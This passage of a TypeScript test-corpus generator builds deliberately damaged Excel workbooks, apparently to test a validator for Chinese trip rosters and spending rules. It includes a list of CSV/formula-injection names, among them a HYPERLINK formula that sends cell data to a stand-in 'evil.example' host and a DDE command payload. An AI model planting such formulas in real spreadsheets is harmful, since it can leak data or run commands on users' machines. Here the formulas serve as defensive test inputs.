    expected: [at("RATE_OVER_CAP", "H6", "项目费率", "超过每人每天上限800.00元×5天")],
    make: edit((s) => {
      const r = rates(s);
      r.header.push("天数");
      r.rows.forEach((row) => row.push(5));
      s.push({ name: "规则", header: ["规则", "值"], rows: [["每人每天上限", "800元"]] });
    }),
  },
  {
    file: "rules-annual-cap.xlsx",
    damage: "a 规则 sheet allowing two trips with 每人每年上限 5000; 张伟 in W1 and N1 (5,680)",
    exit: 0,
    expected: [
      at("ANNUAL_CAP_EXCEEDED", "H3", "花名册", "合计5,680.00元"),
      at("ANNUAL_CAP_EXCEEDED", "H11"),
    ],
    make: edit((s) => {
      const first = roster(s).rows[0];
      const again = [...first];
      again[R.seq] = 9;
      again[R.cats] = "在职职工会员";
      again[R.program] = "N1";
      again[R.date] = d(2024, 9, 15);
      roster(s).rows.push(again);
      s.push({
        name: "规则",
        header: ["规则", "值"],
        rows: [
          ["每人每年参加次数", 2],
          ["每人每年上限", 5000],
        ],
      });
    }),
  },
  {
    file: "rules-history-years.xlsx",
    damage: "a 规则 sheet with 追溯年数 3 and 张伟 in the history for 2022",
    exit: 1,
    expected: [at("DUPLICATE_HISTORY", "D3", "花名册", "近3年内参加过的不再安排")],
    make: edit((s) => {
      s.push({
        name: "历史记录",
        header: ["姓名", "身份证号", "项目", "年份"],
        rows: [["张伟", id0(), "W1", 2022]],
        textColumns: ["身份证号"],
      });
      s.push({ name: "规则", header: ["规则", "值"], rows: [["追溯年数", 3]] });
    }),
  },
  {
    file: "rules-invalid.xlsx",
    damage: "a 规则 sheet whose 每人每年参加次数 is 两次 and whose second rule is unknown",
    exit: 1,
    expected: [at("RULE_INVALID", "B2", "规则", "两次"), at("RULE_INVALID", "A3", "规则")],
    make: edit((s) =>
      s.push({
        name: "规则",
        header: ["规则", "值"],
        rows: [
          ["每人每年参加次数", "两次"],
          ["每周上限", 1],
        ],
      })
    ),
  },
];

export const INJECTION_NAMES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  "+1",
  "-1",
  "@SUM(A1:A2)",
  "=1+1",
  "=cmd|' /C calc'!A0",
];

// ---------------------------------------------------------------- damage helpers

/** The same ID with a wrong final character. */
export function flipCheck(id: string): string {
  const c = id[17];
  return id.slice(0, 17) + (c === "1" ? "2" : "1");
}

export function toFullWidth(s: string): string {
  return s.replace(/[0-9A-Za-z]/g, (ch) => String.fromCharCode(ch.charCodeAt(0) + 0xfee0));
}

function dropColumn(s: SheetSpec, col: number): void {
  s.header = s.header.filter((_, i) => i !== col);
  s.rows = s.rows.map((r) => r.filter((_, i) => i !== col));
  s.widths = undefined;
}

function notesAbove(ws: ExcelJS.Worksheet, n: number): void {
  for (let r = 1; r <= n; r++) ws.getCell(r, 1).value = `填表说明第${r}条：请按要求填写`;
}

function truncate(buf: Buffer): Buffer {
  return buf.subarray(0, Math.floor(buf.length / 2));
}

/**
 * An encrypted .xlsx is not a zip: Excel wraps it in an OLE compound file (EncryptionInfo and
 * EncryptedPackage streams). Its first 8 bytes D0 CF 11 E0 A1 B1 1A E1 are all a reader sees
 * before giving up, so a 512-byte compound-file header followed by filler stands in for one.
 */
export function oleHeader(): Buffer {
  const b = Buffer.alloc(1536, 0);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(b, 0);
  b.writeUInt16LE(0x003e, 24); // minor version
  b.writeUInt16LE(0x0003, 26); // major version 3
  b.writeUInt16LE(0xfffe, 28); // byte order
  b.writeUInt16LE(9, 30); // sector shift: 512-byte sectors
  b.write("EncryptedPackage", 600, "utf16le");
  return b;
}

/** A minimal valid zip (one stored file, hello.txt = "hi"), built by hand so it never varies. */
const STORED_ZIP = (() => {
  const name = Buffer.from("hello.txt");
  const data = Buffer.from("hi");
  const crc = 0xd8932aac; // crc32("hi")
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(10, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(10, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(name.length, 28);
  const cdOffset = local.length + name.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(cdOffset, 16);
  return Buffer.concat([local, name, data, central, name, end]);
})();

// ---------------------------------------------------------------- writing

const FIXED_DATE = new Date(Date.UTC(2024, 4, 1));

async function toBuffer(wb: ExcelJS.Workbook): Promise<Buffer> {
  wb.created = FIXED_DATE;
  wb.modified = FIXED_DATE;
  // ExcelJS stamps each zip entry with the current time; re-stamp them so the bytes never vary.
  const zip = await JSZip.loadAsync(Buffer.from(await wb.xlsx.writeBuffer()));
  zip.forEach((_, f) => {
    f.date = FIXED_DATE;
  });
  return zip.generateAsync({ type: "nodebuffer", compression: "DEFLATE" });
}

/** The bytes of one case's file. */
export async function caseBytes(c: CaseDef): Promise<Buffer> {
  const m = await c.make();
  if (m.bytes) return m.bytes;
  const wb = buildWorkbook(m.sheets ?? []);
  m.post?.(wb);
  return toBuffer(wb);
}

/** Write every case into `dir` with cases.json; returns the manifest. */
export async function buildCorpus(dir: string): Promise<CorpusCase[]> {
  fs.mkdirSync(dir, { recursive: true });
  const manifest: CorpusCase[] = [];
  for (const c of CASES) {
    fs.writeFileSync(path.join(dir, c.file), await caseBytes(c));
    const { make: _make, ...entry } = c;
    manifest.push(entry);
  }
  fs.writeFileSync(path.join(dir, "cases.json"), JSON.stringify(manifest, null, 2) + "\n");
  return manifest;
}

if (require.main === module) {
  const dir = path.resolve(process.argv[2] ?? path.join(process.cwd(), "corpus-out"));
  buildCorpus(dir).then(
    (m) => console.log(`已生成 ${m.length - 1} 个损坏工作簿、1 个完好的基准与 cases.json：${dir}`),
    (e) => {
      console.error(e);
      process.exit(1);
    }
  );
}
